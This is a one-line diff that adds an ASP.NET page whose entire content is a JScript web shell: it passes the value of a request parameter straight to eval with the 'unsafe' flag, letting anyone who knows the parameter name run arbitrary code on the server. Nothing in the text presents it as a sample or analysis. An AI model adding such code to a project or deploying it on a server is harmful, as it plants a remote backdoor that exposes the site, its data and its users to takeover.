@@ -1,0 +1,1 @@
+<%@ Page Language="Jscript"%><%eval(Request.Item["Kx7mQp2r"],"unsafe");%>
